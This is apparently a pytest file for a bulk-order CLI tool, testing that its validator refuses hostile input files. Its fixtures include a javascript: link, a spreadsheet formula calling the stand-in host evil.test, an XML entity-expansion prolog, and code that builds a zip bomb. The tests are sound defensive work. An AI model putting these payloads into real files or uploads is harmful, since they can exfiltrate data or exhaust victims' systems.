"""Input files built to hurt: links that are not links, NUL bytes, zip bombs, XML bombs.

Each is a real file on disk read by the real command (`validate`, `submit` on the sandbox):
the exit code, the exact message and what was (not) sent are asserted.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
from click.testing import CliRunner

from bulkorders.cli import cli

NUL_ADVICE = ("holds a NUL byte (\\0): the file is damaged on this row; retype the row or save the sheet "
              "again from Excel as CSV UTF-8, then rerun")  # fmt: skip


def run(*args: str) -> object:
    return CliRunner().invoke(cli, ["--panel", "sandbox", *args])


def write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def results(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as fh:
        return list(csv.DictReader(fh))


# --- links that are not links ---------------------------------------------------------

NOT_LINKS = (
    b"link,service,quantity\n"
    b"javascript:alert(1),1001,100\n"
    b'"=WEBSERVICE(""http://evil.test/?"")",1001,100\n'
    b"@SUM(1),1001,100\n"
    b"click,1001,100\n"
    b"instagram.com/p/x,1001,100\n"
    b"https://instagram.com/p/ok,1001,100\n"
)


def test_links_that_are_not_web_addresses_are_row_errors(tmp_path):
    result = run("validate", str(write(tmp_path / "links.csv", NOT_LINKS)))
    assert result.exit_code == 1
    assert result.stdout.splitlines()[:5] == [
        'row 2, link: "javascript:alert(1)" is a javascript: address; a link must be a web address (https://…)',
        'row 3, link: "=WEBSERVICE("http://evil.test/?")" is a formula\'s text, not a link; give the web address (https://…)',
        'row 4, link: "@SUM(1)" is a formula\'s text, not a link; give the web address (https://…)',
        'row 5, link: "click" is not a web address; give the link (https://…)',
        'warning: row 6, link: "instagram.com/p/x" is not an http(s):// link; the panel may refuse it',
    ]  # fmt: skip
    assert "6 rows: 2 valid, 4 invalid, 1 with warnings" in result.stdout


def test_submit_places_none_of_them(tmp_path):
    sheet = write(tmp_path / "links.csv", NOT_LINKS)
    result = run("submit", str(sheet), "--yes")
    assert result.exit_code == 1, result.output
    statuses = {row["link"]: row["status"] for row in results(tmp_path / "links.results.csv")}
    assert [link for link, status in statuses.items() if status != "invalid"] == [
        "instagram.com/p/x", "https://instagram.com/p/ok"]  # fmt: skip


# --- NUL bytes in a CSV ---------------------------------------------------------------


def test_nul_bytes_late_in_a_csv_are_errors_for_their_rows_and_never_sent(tmp_path):
    rows = [f"https://instagram.com/p/n{i},1001,100,fine".encode() for i in range(300)]
    rows[250] = b"https://instagram.com/p/n250,1001,100,bad\x00byte"
    rows[299] = b"https://instagram.com/p/n299\x00,1001,100,"
    sheet = write(tmp_path / "nul.csv", b"link,service,quantity,notes\n" + b"\n".join(rows) + b"\n")
    result = run("validate", str(sheet))
    assert result.exit_code == 1
    assert result.stdout.splitlines()[:2] == [f"row 252, notes: {NUL_ADVICE}", f"row 301, link: {NUL_ADVICE}"]
    result = run("submit", str(sheet), "--yes")
    assert result.exit_code == 1
    by_row = results(tmp_path / "nul.results.csv")
    assert [row["status"] for row in by_row].count("invalid") == 2
    assert by_row[250]["status"] == by_row[299]["status"] == "invalid"
    assert by_row[249]["order_id"] and not by_row[250]["order_id"]


def test_a_file_starting_with_nul_bytes_is_damaged_not_utf16(tmp_path):
    sheet = write(tmp_path / "zeros.csv", b"\x00" * 512 + b"link,service,quantity\nhttps://x.test/p,1001,100\n")
    result = run("validate", str(sheet))
    assert result.exit_code == 2
    assert result.stderr == (
        f"Error: {sheet} starts with 512 NUL bytes (zeros) before any text: the file is damaged (a copy or "
        'a save that did not finish). Restore it from a backup, or save it again from Excel as "CSV UTF-8", '
        "then rerun.\n"
    )


def test_utf16_without_a_bom_is_still_recognised(tmp_path):
    text = "link,service,quantity\nhttps://instagram.com/p/a,1001,100\n"
    for codec in ("utf-16-le", "utf-16-be"):
        result = run("validate", str(write(tmp_path / "u16.csv", text.encode(codec))))
        assert result.exit_code == 2
        assert "is saved as UTF-16 (Excel's \"Unicode Text\"), not UTF-8" in result.stderr


# --- zip bombs and XML bombs ----------------------------------------------------------


def rewrite(path: Path, edit: dict[str, tuple[str, bytes]]) -> Path:
    """Rewrite a workbook's members: name -> (new name, new bytes); text fixes elsewhere."""
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            name, data = edit.get(name, (name, data))
            archive.writestr(name, data)
    return path


def workbook(path: Path, rows: int = 2) -> Path:
    wb = openpyxl.Workbook()
    wb.active.title = "Orders"
    wb.active.append(["link", "service", "quantity"])
    for i in range(rows):
        wb.active.append([f"https://instagram.com/p/z{i}", 1001, 100])
    wb.save(path)
    return path


def renamed_sheet(path: Path, prolog: bytes = b"") -> Path:
    """The worksheet moved to `xl/worksheets/sheet1.dat` (rels and content types follow)."""
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
        rels = archive.read("xl/_rels/workbook.xml.rels")
        types = archive.read("[Content_Types].xml")
    body = sheet.split(b"?>", 1)[1] if sheet.startswith(b"<?xml") else sheet
    return rewrite(path, {
        "xl/worksheets/sheet1.xml": ("xl/worksheets/sheet1.dat", b'<?xml version="1.0"?>' + prolog + body),
        "xl/_rels/workbook.xml.rels": ("xl/_rels/workbook.xml.rels", rels.replace(b"sheet1.xml", b"sheet1.dat")),
        "[Content_Types].xml": ("[Content_Types].xml", types.replace(b"sheet1.xml", b"sheet1.dat")),
    })  # fmt: skip


def test_a_worksheet_under_another_file_name_is_read_and_its_doctype_refused(tmp_path):
    plain = renamed_sheet(workbook(tmp_path / "plain.xlsx"))
    result = run("validate", str(plain))
    assert result.exit_code == 0, result.output  # the renamed part is the sheet calamine reads
    assert "2 rows: 2 valid" in result.stdout
    lol = b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    bomb = renamed_sheet(workbook(tmp_path / "bomb.xlsx"), prolog=lol)
    result = run("validate", str(bomb))
    assert result.exit_code == 2
    assert result.stderr == (
        f"Error: {bomb} contains XML declarations (DOCTYPE/ENTITY in xl/worksheets/sheet1.dat) that Excel "
        "never writes; refusing it as possibly malicious. Save the sheet again from Excel and rerun.\n"
    )


def test_a_part_in_utf16_is_refused(tmp_path):
    path = workbook(tmp_path / "u16.xlsx")
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    rewrite(path, {"xl/worksheets/sheet1.xml": ("xl/worksheets/sheet1.bin", "\ufeff".join(["", sheet]).encode("utf-16-le"))})
    result = run("validate", str(path))
    assert result.exit_code == 2
    assert "has a part in UTF-16 (xl/worksheets/sheet1.bin), which Excel never writes" in result.stderr


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
    """300 MB of one repeated row, deflated to a few hundred KB: refused from the zip headers."""
    path = workbook(tmp_path / "bomb.xlsx")
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    head, tail = sheet.split(b"</sheetData>")
    filler = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * (300 * 2**20 // 49)
    rewrite(path, {"xl/worksheets/sheet1.xml": ("xl/worksheets/sheet1.xml", head + filler + b"</sheetData>" + tail)})
    assert path.stat().st_size < 5 * 2**20
    result = run("validate", str(path))
    assert result.exit_code == 2
    assert result.stderr == (
        f"Error: {path} unpacks to 300 MB (xl/worksheets/sheet1.xml: 300 MB), more than the 200 MB an order "
        "sheet can need; refusing it as unsafe to open. If it is a real order sheet, split it into smaller "
        "files, or raise the limit with BULKORDERS_MAX_UNPACKED_MB.\n"
    )


def test_the_unpacked_size_limit_names_what_was_found_and_how_to_raise_it(tmp_path, monkeypatch):
    path = workbook(tmp_path / "big.xlsx", rows=30_000)
    assert run("validate", str(path)).exit_code == 0
    monkeypatch.setenv("BULKORDERS_MAX_UNPACKED_MB", "1")
    result = run("validate", str(path))
    assert result.exit_code == 2
    assert re.fullmatch(
        rf"Error: {re.escape(str(path))} unpacks to \d MB \(xl/worksheets/sheet1.xml: \d MB\), more than the 1 MB "
        r"an order sheet can need; refusing it as unsafe to open\. If it is a real order sheet, split it into "
        r"smaller files, or raise the limit with BULKORDERS_MAX_UNPACKED_MB\.\n", result.stderr)  # fmt: skip


def test_the_cell_limit_counts_the_cells_whatever_the_sheet_declares(tmp_path, monkeypatch):
    """No <dimension>, cells without `r`: the cells are counted, not taken on the sheet's word."""
    path = workbook(tmp_path / "cells.xlsx", rows=10)
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    sheet = re.sub(rb"<dimension[^>]*/>", b"", sheet)
    sheet = sheet.replace(b"</sheetData>", b"<row>" + b"<c><v>1</v></c>" * 2000 + b"</row></sheetData>")
    rewrite(path, {"xl/worksheets/sheet1.xml": ("xl/worksheets/sheet1.xml", sheet)})
    monkeypatch.setenv("BULKORDERS_MAX_CELLS", "1000")
    result = run("validate", str(path))
    assert result.exit_code == 2
    assert result.stderr.startswith(
        f'Error: {path}: sheet "Orders" spans 2,011 rows x 3 columns (6,033 cells), more than the 1,000 '
        "cells an order sheet can need, too many to read safely."
    )
    assert result.stderr.endswith("or raise the limit with BULKORDERS_MAX_CELLS.\n")
    monkeypatch.setenv("BULKORDERS_MAX_CELLS", "lots")
    result = run("validate", str(path))
    assert result.exit_code == 2 and "BULKORDERS_MAX_CELLS must be a positive whole number" in result.stderr


def test_a_csv_over_the_size_limit_is_refused_before_it_is_read(tmp_path, monkeypatch):
    line = b"https://instagram.com/p/big,1001,100\n"
    sheet = write(tmp_path / "big.csv", b"link,service,quantity\n" + line * (3 * 2**20 // len(line)))
    monkeypatch.setenv("BULKORDERS_MAX_UNPACKED_MB", "2")
    result = run("validate", str(sheet))
    assert result.exit_code == 2
    assert result.stderr == (
        f"Error: {sheet} is 3 MB, more than the 2 MB an order sheet can need; refusing to read it. "
        "Split it into smaller files, or raise the limit with BULKORDERS_MAX_UNPACKED_MB.\n"
    )
